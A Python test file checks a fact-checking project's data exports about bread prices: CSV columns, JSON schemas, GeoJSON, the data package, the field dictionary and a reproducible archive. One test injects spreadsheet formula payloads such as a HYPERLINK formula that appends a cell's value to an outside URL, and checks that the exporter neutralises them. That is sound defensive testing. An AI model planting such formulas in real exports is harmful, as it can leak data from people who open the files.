"""The data files: tables, JSON, schemas, places, the package and the dictionary."""

import csv
import io
import json
import re
import zipfile

import pytest
from making import SITE, changed

from facts.article import ArticleFacts
from facts.evidence import Evidence
from facts.fields import Ref, Word, Words
from facts.load import FILES
from facts.records import mark_of
from facts.vocabulary import Vocabulary
from pages import downloads

# What programs rely on: names and order of columns. Add at the end; never rename or drop.
COLUMNS = {
    "positions": (
        "id question expert position says paragraphs attribution quote looked_for note expert_name "
        "scope phrase question_wording"
    ),
    "figures": (
        "id measure expert paragraph attribution what where when value unit approximate quote "
        "note expert_name"
    ),
    "checks": (
        "id group expert paragraphs attribution concerns statement record class confidence "
        "confidence_note reread sources expert_name short line"
    ),
    "outcomes": (
        "id expert paragraphs concerns kind assessment criterion happened verdict confidence "
        "confidence_note reread looked sources expert_name short owner answer dated line changed"
    ),
    "sequels": "id question says outcomes",
    "questions": "id group kind short wording also on_home",
    "experts": "id slug short name also_written role affiliation interest thesis",
    "events": "id when what place actors mentioned sources headline short key",
    "sources": "id publisher title titled date url kind credits party status note outlet owner",
}
MODELS = {"facts": ArticleFacts, "evidence": Evidence}


@pytest.fixture(scope="module")
def data(files):
    """Every data file, by its name."""
    names = [name for name in files if name.startswith("docs/data/")]
    return {name.removeprefix("docs/data/"): files[name] for name in names}


def rows(data, name):
    text = data[f"{name}.csv"]
    assert text.startswith("\ufeff"), "spreadsheets know UTF-8 by this mark"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def row(data, name, id):
    (found,) = [row for row in rows(data, name) if row["id"] == id]
    return found


def test_every_file_is_made_and_named(data):
    assert sorted(downloads.NAMES) == sorted(data.keys() - {"index.md"})


# --- Tables -------------------------------------------------------------------------


@pytest.mark.parametrize("name", COLUMNS)
def test_a_table_has_its_columns(data, name):
    assert list(rows(data, name)[0]) == COLUMNS[name].split()


@pytest.mark.parametrize("name", COLUMNS)
def test_a_table_has_every_record_and_all_of_it(data, dataset, name):
    records = downloads.records_of(downloads.filled(dataset), name)
    assert [row["id"] for row in rows(data, name)] == [record.id for record in records]
    for found, record in zip(rows(data, name), records, strict=True):
        for key, value in record.model_dump(mode="json", by_alias=True).items():
            assert found[key] == shown(value), (record.id, key)


def named(item):
    """An item of a list in a cell: what is dated begins with its date."""
    if not isinstance(item, dict):
        return item
    if "when" in item:
        return f"{item['when']}: {item['what']}"
    return item.get("source") or item["id"]


def shown(value):
    """How a value is written in a cell."""
    if isinstance(value, list):
        return "; ".join(named(item) for item in value)
    if isinstance(value, bool):
        return "true" if value else "false"
    return "" if value is None else str(value)


CELLS = [
    ("positions", "q-price--baker", "says", "It will cost 34 pence, and she is sure."),
    ("positions", "q-price--ozturk", "paragraphs", "p14; p16"),
    ("positions", "q-import--mlynarz", "looked_for", "import; foreign flour"),
    ("positions", "q-import--mlynarz", "says", ""),
    ("positions", "q-price--ozturk", "expert_name", "Ayşe Öztürk-Işık"),
    ("figures", "f-day--baker", "value", "2020-05-03"),
    ("figures", "f-towns--ozturk", "value", "Saltby; Millford"),
    ("figures", "f-sacks--baker", "value", "1200"),
    ("figures", "f-sacks--baker", "approximate", "true"),
    ("checks", "c-loaf", "statement", "A loaf goes up to 34 pence."),
    ("checks", "c-loaf", "sources", "s-ledger; s-gazette"),
    ("checks", "c-fewer", "expert_name", "The introduction"),
    ("outcomes", "o-title", "expert_name", "The title of the article"),
    ("outcomes", "o-close", "verdict", ""),
    ("events", "e-2020-08-05-fair", "when", "2020-08-05/2020-08-10"),
    ("events", "e-2020-08-29-strike", "headline", "false"),
    ("outcomes", "o-close", "owner", ""),
    ("outcomes", "o-harvest", "owner", "a farmer whom nobody names"),
    ("outcomes", "o-harvest", "concerns", "q-price--mlynarz; f-loaf--mlynarz"),
    ("outcomes", "o-title", "answer", "dearer in Millford since June"),
    ("outcomes", "o-title", "verdict", ""),
    (
        "outcomes",
        "o-price",
        "dated",
        "2020-06: The price rose in Millford.; 2021-01-05: It stayed in Saltby.",
    ),
    ("outcomes", "o-title", "dated", ""),
    ("outcomes", "o-title", "line", "It got dearer in June."),
    ("checks", "c-towns", "line", "It began in three towns."),
    ("positions", "q-mills--ozturk", "scope", "old mills"),
    ("positions", "q-price--ozturk", "scope", ""),
    ("positions", "q-cause--ozturk", "phrase", "poor harvests"),
    ("positions", "q-price--ozturk", "phrase", ""),
    ("positions", "q-price--ozturk", "question_wording", "Will a loaf cost more?"),
    ("questions", "q-price", "wording", "Will a loaf cost more?"),
    ("experts", "baker", "name", "Ada Baker"),
    ("sequels", "q-price/sequel", "question", "q-price"),
    ("sequels", "q-price/sequel", "outcomes", "o-title; o-price; o-harvest"),
    ("sources", "s-bare", "date", "not shown"),
    ("sources", "s-gazette", "publisher", "The Gazette"),
    ("sources", "s-gazette", "outlet", "gazette"),
    ("sources", "s-gazette", "owner", "the town of Saltby, by a yearly grant"),
    ("sources", "s-ledger", "owner", ""),
]


@pytest.mark.parametrize(("table", "id", "column", "expected"), CELLS)
def test_a_cell_is_as_people_and_programs_read_it(data, table, id, column, expected):
    assert row(data, table, id)[column] == expected


def test_signs_of_tables_stay_inside_a_cell(dataset, render):
    text = 'a; b, "c" and d'
    files = render(changed(dataset, "s-ledger", title=text))
    table = {"sources.csv": files["docs/data/sources.csv"]}
    assert row(table, "sources", "s-ledger")["title"] == text


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＠"])
def test_no_text_is_a_formula_of_a_spreadsheet(dataset, render, sign):
    text = f'{sign}HYPERLINK("https://example.org/"&A1;"a")'
    hostile = changed(dataset, "s-ledger", title=text)
    hostile = changed(hostile, "q-import--mlynarz", looked_for=[text, "b"])
    files = render(hostile)
    for name, id, column, expected in (
        ("sources", "s-ledger", "title", text),
        ("positions", "q-import--mlynarz", "looked_for", f"{text}; b"),
    ):
        out = files[f"docs/data/{name}.csv"].removeprefix("\ufeff")
        (cell,) = [r[column] for r in csv.DictReader(io.StringIO(out, newline="")) if r["id"] == id]
        assert cell == f"'{expected}"
    assert text in json.loads(files["docs/data/evidence.json"])["sources"][0]["title"]


def test_no_cell_begins_as_a_formula_and_numbers_are_numbers(data):
    for name in COLUMNS:
        for found in rows(data, name):
            assert not [cell for cell in found.values() if downloads.FORMULA.match(cell)], found
    assert downloads._cell(-5) == -5


def test_the_tables_say_what_an_apostrophe_means(data):
    assert downloads.HARMLESS in json.loads(data["datapackage.json"])["description"]
    assert downloads.HARMLESS in data["index.md"]


# --- JSON ---------------------------------------------------------------------------


def test_json_holds_the_whole(data, dataset):
    full = downloads.filled(dataset)
    facts, evidence = json.loads(data["facts.json"]), json.loads(data["evidence.json"])
    assert facts.pop("vocabulary") == full.vocabulary.model_dump(mode="json", by_alias=True)
    assert facts == full.article.model_dump(mode="json", by_alias=True)
    assert evidence == full.evidence.model_dump(mode="json", by_alias=True)
    assert evidence["checks"][0]["class"] == "agrees"


def test_figures_are_put_into_every_text(data):
    for name, text in data.items():
        assert "{f-" not in text, name
    charts = json.loads(data["evidence.json"])["charts"]
    assert "1,200 and 6,000 can both be right" in charts[1]["text"]


def test_letters_of_every_language_are_written_out(data):
    assert "Öztürk-Işık" in data["facts.json"]


# --- Schemas ------------------------------------------------------------------------


def schema(data, name):
    return json.loads(data[f"{name}.schema.json"])


def fields_of(model):
    """Every field of the records in a file: record, name in the file, and what it is."""
    for record in downloads.sections(model).values():
        for name, info in record.model_fields.items():
            yield record, info.alias or name, info


def strings_of(field):
    """The parts of a field's schema that are about a text."""
    parts = (field, field.get("items", {}), *field.get("anyOf", []))
    return [part for part in parts if part.get("type") == "string"]


@pytest.mark.parametrize("name", MODELS)
def test_a_schema_knows_every_word_length_and_reference(data, dataset, name):
    defined = schema(data, name)["$defs"]
    count = 0
    for record, key, info in fields_of(MODELS[name]):
        field = defined[record.__name__]["properties"][key]
        if word := mark_of(info, Word):
            allowed = dataset.vocabulary.ids(word.section)
            assert [part["enum"] for part in strings_of(field)] == [allowed], key
        if limits := mark_of(info, Words):
            (part,) = strings_of(field)
            for length in (limits.least - 1, limits.least, limits.most, limits.most + 1):
                fits = limits.least <= length <= limits.most
                text = " ".join(["it’s"] * length)
                assert bool(re.search(part["pattern"], text)) == fits, (key, length)
        if reference := mark_of(info, Ref):
            named = field["description"].rpartition("(Refers to: ")[2].removesuffix(".)")
            assert len(named.split(", ")) == len(reference.sections), key
        count += bool(word or limits or reference)
    assert count > 10


@pytest.mark.parametrize(
    ("name", "record", "field", "expected"),
    [
        (
            "facts",
            "Position",
            "says",
            "The answer in our words; empty where there is none. At most 25 words.",
        ),
        ("facts", "Position", "quote", "A fragment of the article, verbatim. 3 to 12 words."),
        ("facts", "Position", "expert", "Id of the expert. (Refers to: experts.)"),
        (
            "evidence",
            "Check",
            "expert",
            "Id of the expert who makes the statement, or a part of the article. "
            "(Refers to: experts, parts of the article.)",
        ),
        ("evidence", "Check", "confidence", "How well the sources carry that."),
    ],
)
def test_a_schema_says_what_a_field_means(data, name, record, field, expected):
    properties = schema(data, name)["$defs"][record]["properties"]
    assert properties[field]["description"] == expected


@pytest.mark.parametrize("name", MODELS)
def test_a_schema_has_the_keys_of_the_file(data, name):
    found = schema(data, name)
    assert found["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    besides = ["vocabulary"] if name == "facts" else []
    assert list(found["properties"]) == [*MODELS[name].model_fields, *besides]
    assert json.loads(data[f"{name}.json"]).keys() <= found["properties"].keys()
    assert found["required"] == list(MODELS[name].model_fields)
    assert found["additionalProperties"] is False
    assert "class" in schema(data, "evidence")["$defs"]["Check"]["properties"]


@pytest.mark.parametrize("name", MODELS)
def test_a_pattern_of_a_schema_is_one_that_every_reader_knows(data, name):
    """JSON Schema has regular expressions of ECMA: nothing that only Python knows."""
    for pattern in re.findall(r'"pattern": ("(?:[^"\\]|\\.)*")', data[f"{name}.schema.json"]):
        text = json.loads(pattern)
        assert text.startswith("^") and text.endswith("$")
        assert not re.search(r"\(\?[P<#aiLmsux-]|\\[AZ]|\{,", text), text


# --- Places and the package ---------------------------------------------------------


def test_places_have_their_longitude_first(data, dataset):
    found = json.loads(data["places.geojson"])
    assert found["type"] == "FeatureCollection"
    for feature, place in zip(found["features"], dataset.evidence.places, strict=True):
        assert feature["geometry"] == {"type": "Point", "coordinates": [place.lon, place.lat]}
        assert feature["id"] == feature["properties"]["id"] == place.id
        assert feature["properties"]["also"] == place.also


def tables_of(package):
    return [resource for resource in package["resources"] if resource.get("type") == "table"]


def test_the_package_has_the_files_that_hold_the_whole(data):
    package = json.loads(data["datapackage.json"])
    found = [resource["path"] for resource in package["resources"] if "schema" not in resource]
    assert found == ["facts.json", "evidence.json", "places.geojson"]
    assert set(found) <= data.keys()
    assert not [one for one in package["resources"] if one["path"] in found and "type" in one]
    names = [resource["name"] for resource in package["resources"]]
    assert len(set(names)) == len(names)


def test_the_package_says_which_table_another_leans_on(data):
    package = json.loads(data["datapackage.json"])
    found = {}
    for resource in tables_of(package):
        for key in resource["schema"]["foreignKeys"]:
            (field,), reference = key["fields"], key["reference"]
            ids = {row["id"] for row in rows(data, reference["resource"])}
            assert {row[field] for row in rows(data, resource["name"])} <= ids
            found[resource["name"], field] = reference["resource"]
    assert found == {
        ("positions", "question"): "questions",
        ("positions", "expert"): "experts",
        ("figures", "expert"): "experts",
        ("sequels", "question"): "questions",
    }


def test_the_package_describes_every_table_as_it_is(data, dataset):
    package = json.loads(data["datapackage.json"])
    assert (package["name"], package["version"]) == ("three-answers-on-one-loaf", "1.2.3")
    assert package["homepage"] == SITE
    makers = ["The Bread Project", "Friends of the Loaf"]
    assert [one["title"] for one in package["contributors"]] == makers
    assert [resource["name"] for resource in tables_of(package)] == list(COLUMNS)
    for resource in tables_of(package):
        assert resource["path"] == f"{resource['name']}.csv"
        assert resource["description"]
        fields = resource["schema"]["fields"]
        assert [field["name"] for field in fields] == COLUMNS[resource["name"]].split()
        assert resource["schema"]["primaryKey"] == ["id"]
        assert fields[0]["constraints"] == {"required": True, "unique": True}
        assert all(field["description"] for field in fields)


@pytest.mark.parametrize(
    ("table", "field", "type_", "section"),
    [
        ("positions", "position", "string", "positions"),
        ("positions", "paragraphs", "string", None),
        ("figures", "unit", "string", "units"),
        ("figures", "approximate", "boolean", None),
        ("checks", "class", "string", "check_classes"),
        ("events", "actors", "string", None),
        ("sources", "titled", "boolean", None),
        ("sources", "status", "string", "source_statuses"),
    ],
)
def test_the_package_knows_types_and_words(data, dataset, table, field, type_, section):
    package = json.loads(data["datapackage.json"])
    (resource,) = [one for one in package["resources"] if one["name"] == table]
    (found,) = [one for one in resource["schema"]["fields"] if one["name"] == field]
    assert found["type"] == type_
    allowed = found.get("constraints", {}).get("enum")
    assert allowed == (dataset.vocabulary.ids(section) if section else None)


def test_every_cell_fits_what_the_package_says(data):
    package = json.loads(data["datapackage.json"])
    for resource in tables_of(package):
        for found in rows(data, resource["name"]):
            for field in resource["schema"]["fields"]:
                cell, constraints = found[field["name"]], field.get("constraints", {})
                assert not cell or cell in constraints.get("enum", [cell]), field
                assert cell or not constraints.get("required"), field
                if field["type"] == "boolean":
                    assert cell in ("true", "false"), field


# --- The dictionary -----------------------------------------------------------------


def test_the_dictionary_explains_every_field(data):
    page = data["index.md"]
    for file, parts in downloads.dictionary().items():
        assert [part.section.partition(".")[0] for part in parts]
        for part in parts:
            assert part.means, (file, part.section)
            for field in part.columns:
                assert field.means, (file, part.section, field.name)
                assert f"<code>{field.name}</code>" in page


def test_the_dictionary_has_every_section_of_the_files(data):
    for file, parts in downloads.dictionary().items():
        names = {part.section for part in parts}
        assert set(MODELS[file].model_fields) <= names
    assert {"paragraphs.flags", "checks.sources", "outcomes.sources"} <= {
        part.section for parts in downloads.dictionary().values() for part in parts
    }


def test_every_word_that_a_field_takes_is_on_the_page(data):
    page = data["index.md"]
    for section in Vocabulary.model_fields:
        shown_there = f'id="words-{section.replace("_", "-")}"' in page
        assert shown_there == (section not in ("aliases", "comparisons", "sections")), section
    for link in re.findall(r'href="#(words-[^"]+)"', page):
        assert f'id="{link}"' in page, link


def test_every_file_is_on_the_page(data):
    names = {*downloads.NAMES, *FILES.values()}
    for name in (*names, downloads.ARCHIVE):
        assert f'href="{name}"' in data["index.md"], name


# --- In one file --------------------------------------------------------------------


def test_the_archive_has_the_package_and_all_that_it_names(data, release):
    packed = downloads.archive({name: data[name] for name in downloads.NAMES}, release)
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        assert archive.testzip() is None
        held = {name: archive.read(name).decode() for name in archive.namelist()}
        times = {entry.date_time for entry in archive.infolist()}
    assert held == {name: data[name] for name in downloads.NAMES}
    package = json.loads(held["datapackage.json"])
    assert {resource["path"] for resource in package["resources"]} <= held.keys()
    assert times == {(2021, 7, 1, 0, 0, 0)}


def test_the_archive_is_the_same_later_and_elsewhere(data, release, monkeypatch):
    texts = {name: data[name] for name in downloads.NAMES}
    packed = downloads.archive(texts, release)
    monkeypatch.setattr("time.time", lambda: 2e9)
    monkeypatch.setattr("sys.platform", "win32")
    assert downloads.archive(dict(reversed(texts.items())), release) == packed


def test_the_guide_names_every_page_once_and_the_data(files):
    lines = files["docs/llms.txt"].splitlines()
    assert lines[0] == "# Three answers on one loaf"
    found = re.findall(r"^- \[.+\]\((\S+?)\): \S", files["docs/llms.txt"], re.MULTILINE)
    heads = [name for name in files if name.startswith("overrides/head/")]
    names = [name.removeprefix("overrides/head/").removesuffix(".html") for name in heads]
    pages = [SITE if name == "index" else f"{SITE}{name}/" for name in names]
    shown = [address for address in pages if "/sheets/" not in address]
    assert sorted(found) == sorted(
        [*shown, *(f"{SITE}data/{n}" for n in ("facts.json", "evidence.json", "datapackage.zip"))]
    )
